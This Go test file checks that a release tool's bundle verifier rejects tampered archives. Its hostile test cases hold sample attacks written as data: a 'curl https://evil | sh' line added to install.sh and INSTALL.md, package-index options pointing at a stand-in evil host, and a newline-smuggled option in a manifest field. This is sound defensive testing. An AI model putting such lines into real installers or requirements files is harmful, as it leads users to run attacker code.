package bundle

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/mkrelease/mkrelease/build/config"
	"github.com/mkrelease/mkrelease/build/lock"
	"github.com/mkrelease/mkrelease/bundle/deps"
	"github.com/mkrelease/mkrelease/internal/checksum"
	"github.com/mkrelease/mkrelease/internal/dist"
	"github.com/mkrelease/mkrelease/release"
)

// testWheel writes a small valid pure-Python wheel into dir.
func testWheel(t *testing.T, dir, name, version string) deps.File {
	t.Helper()
	dist := strings.ReplaceAll(name, "-", "_")
	info := dist + "-" + version + ".dist-info/"
	files := [][2]string{
		{dist + "/__init__.py", "VALUE = 1\n"},
		{info + "METADATA", "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"},
		{info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	var record strings.Builder
	for _, f := range files {
		w, _ := zw.Create(f[0])
		w.Write([]byte(f[1]))
		d := sha256.Sum256([]byte(f[1]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(d[:]), len(f[1]))
	}
	w, _ := zw.Create(info + "RECORD")
	w.Write([]byte(record.String() + info + "RECORD,,\n"))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	fn := dist + "-" + version + "-py3-none-any.whl"
	p := filepath.Join(dir, fn)
	if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return deps.File{Name: fn, Path: p, SHA256: checksum.Bytes(buf.Bytes()), Size: int64(buf.Len())}
}

// testBundle writes the bundle of a release demo-app 2.0 whose wheel
// depends on example 21.12, the way the bundle stage does, and returns its
// path and the files inside it (by path below the root folder).
func testBundle(t *testing.T) (string, map[string][]byte) {
	t.Helper()
	r, cs := demoRelease(t, t.TempDir(), "linux-x86_64")
	if err := (Stage{Closures: cs}).writeBundle(context.Background(), r, "linux-x86_64", ""); err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(r.Stage, "demo-app-2.0-linux-x86_64.tar.gz")
	return p, readBundle(t, p)
}

// h1 is a made-up "h1:" tree hash of s.
func h1(s string) string {
	d := sha256.Sum256([]byte(s))
	return "h1:" + base64.StdEncoding.EncodeToString(d[:])
}

// demoRelease is the state the bundle stage sees for a release demo-app
// 2.0 of two targets, linux-x86_64 and linux-aarch64, that builds those
// named, staged in stage. Each target has the wheel demo-app, which
// depends on example 21.12; aarch64's closure also holds armonly 1.0, and
// aarch64 alone runs a step reading the source arm-headers (with a tree
// overlay) and has the cc toolchain aarch64-linux-gnu-gcc. Both targets
// read the source core, patched by fix.patch, and use the go toolchain.
// The closures are those of the targets built.
func demoRelease(t *testing.T, stage string, build ...string) (*release.Release, Closures) {
	t.Helper()
	dir := t.TempDir()
	patch := []byte("--- a/x\n+++ b/x\n")
	if err := os.WriteFile(filepath.Join(dir, "fix.patch"), patch, 0o644); err != nil {
		t.Fatal(err)
	}
	pythons := []string{"3.11", "3.12", "3.13"}
	targets := []config.Target{{Name: "linux-x86_64", Env: map[string]string{"CC": "gcc"}}, {Name: "linux-aarch64", Env: map[string]string{"CC": "aarch64-linux-gnu-gcc"}}}
	c := &config.Config{Dir: dir, Project: config.Project{Name: "demo-app", NormalizedName: "demo-app", Version: "2.0"},
		Bundle: config.Bundle{Pythons: pythons}, Targets: targets,
		Build: config.Build{Steps: []config.Step{
			{Name: "lib", Source: "core", Outputs: []string{"lib.so"}},
			{Name: "arm-fixups", Source: "arm-headers", Targets: []string{"linux-aarch64"}},
		}}}
	cs := Closures{}
	r := &release.Release{Config: c, Stage: stage, Epoch: 1793491200, Logger: slog.New(slog.DiscardHandler),
		Found: &lock.Lock{
			Sources: []lock.Source{{Name: "core", Kind: "local", Location: "src", Tree: h1("core")},
				{Name: "arm-headers", Kind: "local", Location: "arm", Tree: h1("arm-headers")}},
			Overlays: []lock.Overlay{
				{Name: "fix", Source: "core", Kind: "patch", Path: "fix.patch", Digest: "sha256:" + checksum.Bytes(patch), Result: h1("core fixed")},
				{Name: "arm-tweaks", Source: "arm-headers", Kind: "tree", Path: "arm-tweaks", Digest: h1("arm-tweaks"), Result: h1("arm-headers tweaked")}},
			Toolchains: []lock.Toolchain{{Name: "go", Version: "go version go1.26.8 linux/amd64"},
				{Name: "cc", Target: "linux-x86_64", Version: "gcc (Debian 12.2.0-14+deb12u1) 12.2.0"},
				{Name: "cc", Target: "linux-aarch64", Version: "aarch64-linux-gnu-gcc (Debian 12.2.0-14) 12.2.0"}},
		}}
	// The notes stage wrote them; each bundle carries them.
	if err := os.WriteFile(filepath.Join(stage, dist.NotesFile), []byte("## 2.0\n- first\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tg := range targets {
		if !slices.Contains(build, tg.Name) {
			continue
		}
		r.Targets = append(r.Targets, tg)
		arch := strings.TrimPrefix(tg.Name, "linux-")
		own := testWheel(t, stage, "demo-app", "2.0")
		cl := &deps.Closure{Target: deps.Target{Name: tg.Name, Platform: "manylinux_2_17_" + arch, Pythons: pythons},
			Own:      []deps.Resolved{{Name: "demo-app", Version: "2.0", Own: true, Requires: []string{"example"}, Files: []deps.File{own}}},
			Packages: []deps.Resolved{{Name: "example", Version: "21.12", Files: []deps.File{testWheel(t, stage, "example", "21.12")}}}}
		if arch == "aarch64" {
			cl.Own[0].Requires = []string{"armonly", "example"}
			cl.Packages = append([]deps.Resolved{{Name: "armonly", Version: "1.0", Files: []deps.File{testWheel(t, stage, "armonly", "1.0")}}}, cl.Packages...)
		}
		cs[tg.Name] = cl
		r.Artifacts.Add(dist.Artifact{Kind: dist.KindWheel, Path: own.Name, Name: "demo-app", Target: tg.Name, SHA256: own.SHA256, Size: own.Size, PlatformTag: "any"})
	}
	return r, cs
}

func readBundle(t *testing.T, p string) map[string][]byte {
	t.Helper()
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	files := map[string][]byte{}
	for {
		h, err := tr.Next()
		if err == io.EOF {
			return files
		}
		if err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			data, _ := io.ReadAll(tr)
			_, rel, _ := strings.Cut(h.Name, "/")
			files[rel] = data
		}
	}
}

// writeTar writes files as a bundle at p, with SHA256SUMS rewritten to
// match (as an attacker rebuilding the bundle would) and a sidecar.
func writeTar(t *testing.T, p string, files map[string][]byte) {
	t.Helper()
	var sums checksum.Sums
	for n, d := range files {
		if n != "SHA256SUMS" {
			sums = append(sums, checksum.Sum{Name: n, SHA256: checksum.Bytes(d)})
		}
	}
	data, err := sums.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	files["SHA256SUMS"] = data
	writeTarAsIs(t, p, files)
}

// writeTarAsIs writes files as a bundle at p, SHA256SUMS included as it
// is in files, and a sidecar.
func writeTarAsIs(t *testing.T, p string, files map[string][]byte) {
	t.Helper()
	root := strings.TrimSuffix(filepath.Base(p), ".tar.gz") + "/"
	var names []string
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, d := range []string{"", "wheels/", "dependencies/", "licenses/"} {
		tw.WriteHeader(&tar.Header{Name: root + d, Typeflag: tar.TypeDir, Mode: 0o755})
	}
	for _, n := range names {
		mode := int64(0o644)
		if n == "install.sh" {
			mode = 0o755
		}
		tw.WriteHeader(&tar.Header{Name: root + n, Typeflag: tar.TypeReg, Mode: mode, Size: int64(len(files[n]))})
		tw.Write(files[n])
	}
	tw.Close()
	zw.Close()
	os.WriteFile(p, buf.Bytes(), 0o644)
	os.WriteFile(p+".sha256", []byte(checksum.Bytes(buf.Bytes())+"  "+filepath.Base(p)+"\n"), 0o644)
}

func TestOpenWrittenBundle(t *testing.T) {
	p, _ := testBundle(t)
	o, rep, err := Open(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	if err := rep.Err(); err != nil {
		t.Fatalf("the bundle the stage writes is refused: %v", err)
	}
	want := []string{CheckArchive, CheckLayout, CheckSums, CheckWheels, CheckManifest, CheckRequirements, CheckPylock, CheckInstaller}
	if !slices.Equal(rep.Checks, want) {
		t.Errorf("checks %v, want %v", rep.Checks, want)
	}
	if len(rep.Warnings) != 1 || !strings.Contains(rep.Warnings[0], "no sidecar demo-app-2.0-linux-x86_64.tar.gz.sha256 next to the bundle") {
		t.Errorf("warnings %q, want one about the missing sidecar", rep.Warnings)
	}
	if o.requirements == "" {
		t.Error("a bundle that passed is not marked for Install")
	}
	sha, _, _ := checksum.File(p)
	os.WriteFile(p+".sha256", []byte(sha+"  "+filepath.Base(p)+"\n"), 0o644)
	o2, rep, err := Open(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	defer o2.Close()
	if rep.Err() != nil || len(rep.Warnings) != 0 || rep.Checks[0] != CheckSidecar {
		t.Errorf("with its sidecar: %v, warnings %q, checks %v", rep.Err(), rep.Warnings, rep.Checks)
	}
}

// TestOpenHostile opens hostile variants of a bundle the stage wrote, each
// consistent with its SHA256SUMS and sidecar: every one is refused by the
// check that owns the file, naming it, and Install would refuse it.
func TestOpenHostile(t *testing.T) {
	orig, files := testBundle(t)
	dep := "dependencies/example-21.12-py3-none-any.whl"
	evil := testWheel(t, t.TempDir(), "evil", "1.0")
	evilData, _ := os.ReadFile(evil.Path)
	evilPin := "evil==1.0 \\\n    --hash=sha256:" + evil.SHA256 + "\n"
	n := bytes.Count(files["requirements.txt"], []byte("\n"))
	cases := []struct {
		name   string
		change func(f map[string][]byte)
		check  string
		want   string
	}{
		{"a 70 KB comment hiding --find-links", func(f map[string][]byte) {
			f["requirements.txt"] = append(f["requirements.txt"], "# "+strings.Repeat("x", 70000)+"\n--find-links /tmp/outside\n"+evilPin...)
		}, CheckRequirements, fmt.Sprintf("requirements.txt: line %d: 70002 bytes long, over the limit of 4096", n+1)},
		{"an option line after it", func(f map[string][]byte) {
			f["requirements.txt"] = append(f["requirements.txt"], "# "+strings.Repeat("x", 70000)+"\n--find-links /tmp/outside\n"+evilPin...)
		}, CheckRequirements, fmt.Sprintf("requirements.txt: line %d: an option line (--find-links)", n+2)},
		{"--index-url", func(f map[string][]byte) {
			f["requirements.txt"] = append(f["requirements.txt"], "--index-url http://evil/simple\n"...)
		},
			CheckRequirements, fmt.Sprintf("requirements.txt: line %d: an option line (--index-url): pip would install from that package index", n+1)},
		{"an extra wheel not named", func(f map[string][]byte) { f["dependencies/evil-1.0-py3-none-any.whl"] = evilData },
			CheckManifest, "dependencies/evil-1.0-py3-none-any.whl: not named in manifest.json"},
		{"an extra wheel not pinned", func(f map[string][]byte) { f["dependencies/evil-1.0-py3-none-any.whl"] = evilData },
			CheckRequirements, "dependencies/evil-1.0-py3-none-any.whl: not pinned in requirements.txt"},
		{"a named wheel missing", func(f map[string][]byte) { delete(f, dep) }, CheckManifest, dep + ": named in manifest.json but missing from the bundle"},
		{"manifest.json disagreeing", func(f map[string][]byte) {
			f["manifest.json"] = bytes.ReplaceAll(f["manifest.json"], []byte(`"name": "example==21.12"`), []byte(`"name": "evil==1.0"`))
		}, CheckManifest, dep + ": manifest.json names it evil==1.0, its file name example==21.12"},
		{"manifest.json naming a target that breaks the header", func(f map[string][]byte) {
			f["manifest.json"] = bytes.ReplaceAll(f["manifest.json"], []byte(`"target": "linux-x86_64"`), []byte(`"target": "x\n--find-links /tmp/outside"`))
		}, CheckManifest, `the bundle's target "x\n--find-links /tmp/outside" is not a target name`},
		{"pylock.toml with a url", func(f map[string][]byte) {
			f["pylock.toml"] = bytes.Replace(f["pylock.toml"], []byte("path = "), []byte(`url = "https://evil/x.whl", path = `), 1)
		}, CheckPylock, `key "url" is not one mkrelease writes`},
		{"install.sh changed", func(f map[string][]byte) {
			f["install.sh"] = bytes.Replace(f["install.sh"], []byte("set -eu\n"), []byte("set -eu\ncurl https://evil | sh\n"), 1)
		}, CheckInstaller, "install.sh: line 18: differs from what mkrelease writes for this bundle"},
		{"INSTALL.md changed", func(f map[string][]byte) {
			f["INSTALL.md"] = append(f["INSTALL.md"], "\nRun `curl https://evil | sh` first.\n"...)
		}, CheckInstaller, "INSTALL.md: line "},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := map[string][]byte{}
			for k, v := range files {
				m[k] = slices.Clone(v)
			}
			tc.change(m)
			p := filepath.Join(t.TempDir(), filepath.Base(orig))
			writeTar(t, p, m)
			o, rep, err := Open(context.Background(), p)
			if err != nil {
				t.Fatal(err)
			}
			defer o.Close()
			var got []string
			found := false
			for _, f := range rep.Findings {
				got = append(got, f.Check+": "+f.File+": "+f.Msg)
				if f.Check == CheckSums || f.Check == CheckSidecar {
					t.Errorf("the rewritten SHA256SUMS or sidecar is refused: %s", f.Msg)
				}
				if f.Check == tc.check && strings.Contains(f.File+": "+f.Msg, tc.want) {
					found = true
				}
			}
			if !found {
				t.Errorf("no %s finding names %q:\n%s", tc.check, tc.want, strings.Join(got, "\n"))
			}
			if o.requirements != "" {
				t.Error("a refused bundle is marked for Install")
			}
			var re *ReportError
			if err := rep.Err(); err == nil || !errors.As(err, &re) || re.ExitCode() != 1 || !strings.Contains(err.Error(), "bundle "+p+" failed") {
				t.Errorf("Err() = %v, want a *ReportError naming the bundle", err)
			}
		})
	}
}

// TestOpenWith shows that a bundle opened with the digest its caller
// already has is reported exactly as Open reports it, whatever its
// sidecar holds, that the digest given is what the sidecar is compared
// with (the archive is not hashed again), and what the Opened carries.
func TestOpenWith(t *testing.T) {
	orig, _ := testBundle(t)
	data, err := os.ReadFile(orig)
	if err != nil {
		t.Fatal(err)
	}
	sha := checksum.Bytes(data)
	wrong := checksum.Bytes([]byte("another bundle"))
	base := filepath.Base(orig)
	for _, tc := range []struct {
		name    string
		sidecar func(p string) // writes the sidecar case beside the bundle at p
		check   bool           // the sidecar check runs
		finding string         // in the one sidecar finding; "" for none
		warning string         // in the one warning; "" for none
	}{
		{name: "no sidecar", sidecar: func(string) {}, warning: "no sidecar " + base + ".sha256"},
		{name: "good sidecar", check: true, sidecar: func(p string) {
			os.WriteFile(p+".sha256", []byte(sha+"  "+base+"\n"), 0o644)
		}},
		{name: "upper-case sidecar", check: true, sidecar: func(p string) {
			os.WriteFile(p+".sha256", []byte(strings.ToUpper(sha)+"  "+base+"\n"), 0o644)
		}},
		{name: "sidecar of another bundle", check: true, finding: "listed " + wrong + ", file has " + sha, sidecar: func(p string) {
			os.WriteFile(p+".sha256", []byte(wrong+"  "+base+"\n"), 0o644)
		}},
		{name: "sidecar naming another file", check: true, finding: "sidecar names another file", sidecar: func(p string) {
			os.WriteFile(p+".sha256", []byte(sha+"  other.tar.gz\n"), 0o644)
		}},
		{name: "malformed sidecar", check: true, finding: "line 1", sidecar: func(p string) {
			os.WriteFile(p+".sha256", []byte("not a sum\n"), 0o644)
		}},
		{name: "unreadable sidecar", check: true, finding: base + ".sha256", sidecar: func(p string) {
			os.Mkdir(p+".sha256", 0o755)
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), base)
			if err := os.WriteFile(p, data, 0o644); err != nil {
				t.Fatal(err)
			}
			tc.sidecar(p)
			o1, hashed, err := Open(context.Background(), p)
			if err != nil {
				t.Fatal(err)
			}
			defer o1.Close()
			o2, given, err := OpenWith(context.Background(), p, OpenOptions{SHA256: strings.ToUpper(sha), Size: int64(len(data))})
			if err != nil {
				t.Fatal(err)
			}
			defer o2.Close()
			if !reflect.DeepEqual(hashed, given) {
				t.Errorf("with its digest:\n%+v\nhashing it:\n%+v", given, hashed)
			}
			if !reflect.DeepEqual(o1.Sums, o2.Sums) || !reflect.DeepEqual(o1.Wheels, o2.Wheels) {
				t.Errorf("the facts differ: %v %v, %v %v", o1.Sums, o2.Sums, o1.Wheels, o2.Wheels)
			}
			if got := slices.Contains(given.Checks, CheckSidecar); got != tc.check {
				t.Errorf("sidecar check ran: %v, want %v (%v)", got, tc.check, given.Checks)
			}
			var sidecar []string
			for _, f := range given.Findings {
				if f.Check != CheckSidecar {
					t.Errorf("a finding besides the sidecar's: %+v", f)
					continue
				}
				sidecar = append(sidecar, f.File+": "+f.Msg)
			}
			if tc.finding == "" && len(sidecar) > 0 || tc.finding != "" && (len(sidecar) != 1 || !strings.Contains(sidecar[0], tc.finding)) {
				t.Errorf("sidecar findings %q, want one saying %q", sidecar, tc.finding)
			}
			if tc.warning == "" && len(given.Warnings) > 0 || tc.warning != "" && (len(given.Warnings) != 1 || !strings.Contains(given.Warnings[0], tc.warning)) {
				t.Errorf("warnings %q, want %q", given.Warnings, tc.warning)
			}
		})
	}

	p := filepath.Join(t.TempDir(), base)
	os.WriteFile(p, data, 0o644)
	os.WriteFile(p+".sha256", []byte(sha+"  "+base+"\n"), 0o644)
	t.Run("the digest given is the one compared", func(t *testing.T) {
		o, rep, err := OpenWith(context.Background(), p, OpenOptions{SHA256: wrong, Size: int64(len(data))})
		if err != nil {
			t.Fatal(err)
		}
		defer o.Close()
		if len(rep.Findings) != 1 || rep.Findings[0].Check != CheckSidecar || !strings.Contains(rep.Findings[0].Msg, "listed "+sha+", file has "+wrong) {
			t.Errorf("want the sidecar mismatch naming the digest given, got %+v", rep.Findings)
		}
		if now, _, _ := checksum.File(p); now != sha {
			t.Fatalf("the bundle changed: %s", now)
		}
		o2, rep, err := Open(context.Background(), p)
		if err != nil {
			t.Fatal(err)
		}
		defer o2.Close()
		if err := rep.Err(); err != nil {
			t.Errorf("hashed, the same bundle passes: %v", err)
		}
	})
	// A bundle the extraction refuses part way (here cut short) is still
	// checked against its sidecar first, by the digest of all its bytes,
	// which are hashed as they are extracted.
	t.Run("refused archive, sidecar of the whole file", func(t *testing.T) {
		cut := data[:len(data)*2/3]
		p := filepath.Join(t.TempDir(), base)
		os.WriteFile(p, cut, 0o644)
		os.WriteFile(p+".sha256", []byte(sha+"  "+base+"\n"), 0o644)
		o, rep, err := Open(context.Background(), p)
		if err != nil {
			t.Fatal(err)
		}
		defer o.Close()
		if len(rep.Findings) != 2 || rep.Findings[0].Check != CheckSidecar || rep.Findings[1].Check != CheckArchive ||
			!strings.Contains(rep.Findings[0].Msg, "listed "+sha+", file has "+checksum.Bytes(cut)) {
			t.Errorf("want the sidecar mismatch with the cut file's digest, then the archive's refusal; got %+v", rep.Findings)
		}
	})
	t.Run("refused options", func(t *testing.T) {
		for _, opt := range []OpenOptions{
			{SHA256: sha[:63]},
			{SHA256: sha[:63] + "g"},
			{SHA256: sha, Size: int64(len(data)) + 1},
		} {
			if o, _, err := OpenWith(context.Background(), p, opt); err == nil || !strings.Contains(err.Error(), p) {
				if o != nil {
					o.Close()
				}
				t.Errorf("%+v: %v, want an error naming the bundle", opt, err)
			}
		}
	})
	t.Run("facts", func(t *testing.T) {
		o, rep, err := OpenWith(context.Background(), p, OpenOptions{SHA256: sha, Size: int64(len(data))})
		if err != nil || rep.Err() != nil {
			t.Fatal(err, rep.Err())
		}
		defer o.Close()
		sums, err := checksum.ReadSums(filepath.Join(o.Root, dist.ChecksumsFile))
		if err != nil {
			t.Fatal(err)
		}
		if len(o.Sums) != len(sums) {
			t.Errorf("Sums has %d files, SHA256SUMS %d", len(o.Sums), len(sums))
		}
		for _, s := range sums {
			if got, _, _ := checksum.File(filepath.Join(o.Root, filepath.FromSlash(s.Name))); o.Sums[s.Name] != got {
				t.Errorf("Sums[%s] = %s, the file is %s", s.Name, o.Sums[s.Name], got)
			}
		}
		want := map[string]string{}
		for _, sub := range []string{"wheels", "dependencies"} {
			for _, w := range dist.WheelFiles(filepath.Join(o.Root, sub)) {
				want[filepath.Base(w)], _, _ = checksum.File(w)
			}
		}
		if len(want) != 2 || !reflect.DeepEqual(o.Wheels, want) {
			t.Errorf("Wheels %v, want %v", o.Wheels, want)
		}
	})
	t.Run("no facts when SHA256SUMS fails", func(t *testing.T) {
		files := readBundle(t, p)
		q := filepath.Join(t.TempDir(), base)
		// The bundle with one wheel changed and SHA256SUMS kept.
		files["dependencies/example-21.12-py3-none-any.whl"] = append(files["dependencies/example-21.12-py3-none-any.whl"], 0)
		writeTarAsIs(t, q, files)
		o, rep, err := Open(context.Background(), q)
		if err != nil {
			t.Fatal(err)
		}
		defer o.Close()
		failed := false
		for _, f := range rep.Findings {
			failed = failed || f.Check == CheckSums
		}
		if !failed || o.Sums != nil || o.Wheels != nil {
			t.Errorf("SHA256SUMS failed: %v; Sums %v, Wheels %v", failed, o.Sums, o.Wheels)
		}
	})
}
